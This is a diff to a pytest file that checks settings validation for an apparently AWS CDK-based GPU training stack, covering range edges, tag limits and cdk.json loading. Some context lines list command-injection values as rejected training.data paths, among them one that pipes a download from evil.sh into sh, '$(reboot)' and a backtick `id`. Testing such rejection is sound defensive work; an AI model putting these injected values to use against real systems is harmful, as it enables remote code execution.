@@ -139,7 +139,7 @@ BAD_SETTINGS = [
     ({"training.data": "gs://bucket/x.jsonl"}, r"training.data: 'gs://bucket/x.jsonl' must be a local path, file:// or s3://bucket/prefix"),
     ({"training.data": "s3:///train.jsonl"}, r"training.data: 's3:///train.jsonl' must be s3://bucket/prefix with a valid bucket name"),
     ({"training.data": "s3://My_Bucket/x.jsonl"}, r"training.data: .* with a valid bucket name"),
-    ({"training.data": "/data/train.csv"}, r"training.data: '/data/train.csv' must be random, pattern, a .jsonl/.json/.parquet file"),
+    ({"training.data": "/data/train.csv"}, r"training.data: '/data/train.csv' must be random, pattern, hf:org/name\[:split\], a .jsonl/.json/.parquet file"),
     ({"training.data": "/data/x.jsonl; curl evil.sh | sh"}, r"training.data: .* \(no spaces or shell characters\)"),
     ({"training.data": "$(reboot)"}, r"training.data: .* \(no spaces or shell characters\)"),
     ({"training.data": "/data/`id`.jsonl"}, r"training.data: .* \(no spaces or shell characters\)"),
@@ -242,3 +242,75 @@ def test_bad_setting_from_cdk_cli_prints_one_line_and_no_traceback(tmp_path):
 ])
 def test_image_is_pinned(image, pinned):
     assert image_is_pinned(image) is pinned
+
+
+# Every range's ends are inside it: a guard tightened by one (< for <=, 61 for 60) fails here.
+EDGES_ACCEPTED = [
+    {"availability_zones": ["us-east-2a", "us-east-2b"], "gpu_availability_zone": "us-east-2a", "nat_gateways": 2},
+    {"availability_zones": [f"us-east-2{z}" for z in "abcdef"], "gpu_availability_zone": "us-east-2f", "nat_gateways": 6},
+    {"system_node_count": 1}, {"system_node_count": 10}, {"system_node_disk_gib": 50}, {"system_node_disk_gib": 16384},
+    {"gpu_node_count": 1}, {"gpu_node_count": 64}, {"gpu_node_disk_gib": 100}, {"gpu_node_disk_gib": 16384},
+    {"vpc_cidr": "10.0.0.0/16"}, {"vpc_cidr": "10.0.0.0/20"},
+    {"tags": {f"k{i}": "v" for i in range(50)}}, {"tags": {"k" * 128: "v" * 256}}, {"tags": {"k": ""}},
+    {"training.active_deadline_seconds": 60}, {"training.active_deadline_seconds": 7 * 24 * 3600},
+    {"training.max_failures": 0}, {"training.max_failures": 100},
+    {"training.backoff_limit": 0}, {"training.backoff_limit": 10},
+    {"training.ray_version": "2.52.0"}, {"training.hf_token_secret": "a"}, {"training.hf_token_secret": "hf-token.v2"},
+    {"training.image": "public.ecr.aws/org/ray@sha256:" + "0" * 64},
+]
+
+
+@pytest.mark.parametrize("overrides", EDGES_ACCEPTED, ids=[str(i) for i in range(len(EDGES_ACCEPTED))])
+def test_the_ends_of_every_range_are_accepted(overrides):
+    settings_from_context(base_context() | overrides)
+
+
+@pytest.mark.parametrize("overrides,message", [
+    ({"training.active_deadline_seconds": 59}, r"^training.active_deadline_seconds: 59 must be between 60 and 604800$"),
+    ({"training.active_deadline_seconds": 604801}, r"^training.active_deadline_seconds: 604801 must be between 60 and 604800$"),
+    ({"training.max_failures": 101}, r"^training.max_failures: 101 must be between 0 and 100$"),
+    ({"training.backoff_limit": 11}, r"^training.backoff_limit: 11 must be between 0 and 10 \(submitter retries; "
+                                     r"training retries are training.max_failures\)$"),
+    ({"training.ray_version": "2.51.9"}, r"^training.ray_version: '2.51.9' must be the image's Ray version, 2.52.0 or later "
+                                         r"\(KubeRay's token authentication needs it\)$"),
+    ({"training.hf_token_secret": "HF"}, r"^training.hf_token_secret: 'HF' must be a Kubernetes Secret name"),
+    ({"tags": {"k" * 129: "v"}}, r"^tags: 'k{129}' must be 1-128 characters with a value of at most 256$"),
+    ({"tags": {"k": "v" * 257}}, r"^tags: 'k' must be 1-128 characters with a value of at most 256$"),
+    ({"tags": {f"k{i}": "v" for i in range(51)}}, r"^tags: 51 tags; AWS allows at most 50 per resource$"),
+])
+def test_just_past_the_ends_is_refused_with_the_exact_line(overrides, message):
+    with pytest.raises(SettingsError, match=message):
+        settings_from_context(base_context() | overrides)
+
+
+def test_a_trainer_refusal_names_the_setting_it_comes_from():
+    with pytest.raises(SettingsError, match=r"^training.learning_rate: 2.0 must be in \(0, 1\)$"):
+        settings_from_context(base_context() | {"training.learning_rate": 2.0})
+
+
+def test_cdk_json_without_context_uses_the_defaults(tmp_path):
+    (tmp_path / "cdk.json").write_text('{"app": "python3 app.py"}')
+    assert settings_from_files(tmp_path / "cdk.json", []) == Settings()
+
+
+def test_an_override_value_may_hold_an_equals_sign(tmp_path):
+    (tmp_path / "cdk.json").write_text('{"context": {}}')
+    s = settings_from_files(tmp_path / "cdk.json", ["tags={\"a\": \"b=c\"}"])
+    assert s.tags["a"] == "b=c"
+
+
+def test_a_missing_or_unreadable_cdk_json_is_named(tmp_path):
+    with pytest.raises(SettingsError, match=rf"^{tmp_path / 'missing.json'}: no such file \(run from the repository root"):
+        settings_from_files(tmp_path / "missing.json", [])
+    (tmp_path / "latin1.json").write_bytes(b'{"context": {"a": "\xe9"}}')
+    with pytest.raises(SettingsError, match=rf"^{tmp_path / 'latin1.json'}: cannot be read: 'utf-8' codec"):
+        settings_from_files(tmp_path / "latin1.json", [])
+
+
+@pytest.mark.parametrize("option,setting", [("workers", "gpu_node_count"), ("lr", "training.learning_rate"),
+                                            ("instance_type", "gpu_instance_type"), ("steps", "training.steps"),
+                                            ("not_a_setting", "not_a_setting")])
+def test_setting_of_option(option, setting):
+    from stacks.settings import _setting_of_option
+
+    assert _setting_of_option(option) == setting
